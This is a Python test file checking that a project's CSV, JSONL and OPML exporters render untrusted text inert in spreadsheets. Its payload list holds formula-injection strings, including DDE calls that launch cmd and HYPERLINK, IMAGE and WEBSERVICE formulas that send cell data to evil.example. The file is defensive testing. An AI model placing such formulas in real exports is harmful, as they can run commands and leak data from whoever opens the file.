"""Texts of strangers are text in every spreadsheet, whatever its separator, and unchanged in other formats."""

import csv
import io
import json
import re
import unicodedata
from types import SimpleNamespace

import pytest
from lxml import etree

from batches.lists.exports import COLUMNS, EXPORTERS, FORMULA, MEMBER_EXPORTERS, STORY_COLUMNS, STORY_EXPORTERS
from batches.lists.formats import read_profiles
from batches.lists.imports import clean_line

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  \n =1+1", "\xa0=1+1", "\u3000=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "|calc", "%0A=1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1",
    "\x0b=1+1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")', '=DDE("cmd","/C calc","x")', '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/","//a")', '=IMAGE("https://evil.example/"&A1)', '"=1+1', '"=1+1"', '"";=1+1',
    '";=1+1', '",=1+1', "';=1+1", "x;=1+1", "x; =1+1", 'x;"=1+1"', "x\t=1+1", "x\n=1+1", 'x"\n"=1+1', "x\r\n@SUM(1)",
    "x;\u200b=1+1", "x;\t;+1", "-1", "+49 30 123", "=", "-", "--", "@", "x,=1+1",
]  # fmt: skip

TABLES = {
    "profiles": (COLUMNS, EXPORTERS["csv"]),
    "stories": (STORY_COLUMNS, STORY_EXPORTERS["csv"]),
}
NO_TEXTS = {"http_status", "duration", "has_story", "checked_at", "found_at", "published_at"}
#: Raised and lowered signs, which are left unchanged.
SMALL = "⁺⁼₊₌"


def text_columns(kind):
    return [column for column in TABLES[kind][0] if column not in NO_TEXTS]


def begins_a_formula(cell: str) -> bool:
    """Whether a spreadsheet might run it, even one that drops invisible characters and accepts letters of any width."""
    seen = "".join(letter for letter in cell if unicodedata.category(letter) not in {"Cc", "Cf", "Zs", "Zl", "Zp"})
    return bool(re.match(r'"*[=+\-@|%]', unicodedata.normalize("NFKC", seen)))


def find_formulas(text: str) -> list[str]:
    """The cells that are run, with any separator, if a quote counts only at the start of a cell."""
    return [
        cell
        for delimiter in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
        if begins_a_formula(cell)
    ]


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def row_of(kind, **values):
    return SimpleNamespace(**dict.fromkeys(TABLES[kind][0]) | values)


@pytest.mark.parametrize("kind", TABLES)
def test_each_payload_is_text_in_each_column(kind):
    *_, export = TABLES[kind]
    for payload in PAYLOADS:
        for column in text_columns(kind):
            text = "".join(export([row_of(kind, **{column: payload})]))
            assert not find_formulas(text)
            (row,) = rows_of(text)
            assert row[column].replace("'", "") == payload.replace("'", "")


@pytest.mark.timeout(120)
def test_no_text_keeps_an_export_busy():
    """Forty characters that the pattern could match in two ways would take forever."""
    for letter in map(chr, [*range(0x3001), 0xFEFF, 0xFF0B]):
        is_sign = unicodedata.normalize("NFKC", letter) in set("=+-@|%") and letter not in SMALL
        assert bool(FORMULA.search(f"x;{letter * 1000}x")) is is_sign, hex(ord(letter))


def test_numbers_stay_numbers_and_other_text_stays_itself():
    row = row_of("profiles", http_status=-5, duration=-0.25, has_story=True, name="a=b, c; d - e", error="1-1 @ 5 %")
    (read,) = rows_of("".join(EXPORTERS["csv"]([row])))
    assert (float(read["http_status"]), float(read["duration"]), read["has_story"]) == (-5, -0.25, "True")
    assert (read["name"], read["error"]) == ("a=b, c; d - e", "1-1 @ 5 %")


@pytest.mark.parametrize("url", ["https://a.example/;=1?-2;+3", "http://a.example:8080/@b;@c/%20;-d"])
def test_an_address_is_unchanged_and_text_after_it_is_not(url):
    (read,) = rows_of("".join(EXPORTERS["csv"]([row_of("profiles", url=url)])))
    assert read["url"] == url
    spoilt = f'{url};=HYPERLINK("x")'
    assert rows_of("".join(EXPORTERS["csv"]([row_of("profiles", url=spoilt)])))[0]["url"] != spoilt


#: Including characters that are hard to write in JSON and XML, without those that XML cannot express.
TEXTS = [payload for payload in PAYLOADS if "\x0b" not in payload]
TEXTS += ["]]>", "<![CDATA[", "&amp;&lt;", "</outline>", "\u2028"]


@pytest.mark.parametrize("kind", TABLES)
def test_json_lines_hold_each_text_unchanged(kind):
    export = {"profiles": EXPORTERS, "stories": STORY_EXPORTERS}[kind]["jsonl"]
    rows = [row_of(kind, **dict.fromkeys(text_columns(kind), text)) for text in TEXTS]
    lines = "".join(export(rows)).split("\n")[:-1]
    assert [list({json.loads(line)[column] for column in text_columns(kind)}) for line in lines] == [[t] for t in TEXTS]


def test_opml_is_well_formed_and_holds_each_text_unchanged():
    text = "".join(EXPORTERS["opml"](row_of("profiles", name=text, url=f"https://a.example/{text}") for text in TEXTS))
    outlines = etree.fromstring(text.encode(), etree.XMLParser(resolve_entities=False)).findall(".//outline")
    assert [outline.get("text") for outline in outlines] == TEXTS
    assert [outline.get("xmlUrl") for outline in outlines] == [f"https://a.example/{text}" for text in TEXTS]


@pytest.mark.parametrize("format", MEMBER_EXPORTERS)
def test_an_exported_list_is_the_same_when_it_is_imported_again(format):
    names = ["", "https://b.example/", "'quoted'", "it's; -1", *(clean_line(text, 200) for text in TEXTS)]
    profiles = [(f"https://a.example/{number}?a=1&b=;-2", name) for number, name in enumerate(names)]
    rows = [SimpleNamespace(url=url, name=name, feed_url="") for url, name in profiles]
    read = read_profiles("".join(MEMBER_EXPORTERS[format](rows)).encode(), strict=True)
    assert list(read.profiles.items()) == profiles
